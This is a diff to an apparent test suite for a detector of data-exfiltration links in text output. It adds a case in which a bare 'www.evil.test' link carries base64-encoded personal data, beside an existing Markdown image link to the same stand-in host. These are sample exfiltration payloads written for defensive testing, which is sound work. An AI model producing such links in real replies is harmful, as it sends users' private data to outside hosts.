@@ -256,3 +256,9 @@ def test_redacted_placeholder_in_url_is_data() -> None:
 def test_commonmark_pointy_destination() -> None:
     links = find_exfil_links("![a](<https://evil.test/x.png>)")
     assert [(link.host, link.url) for link in links] == [("evil.test", "https://evil.test/x.png")]
+
+
+def test_gfm_www_autolink_with_data() -> None:
+    assert exfil("details at www.evil.test/c?d=" + "QWxpY2UgU1NOIDUzNi0yMi0xOTQ3" + " ok") == [
+        "guard.output.exfil_bare"
+    ]
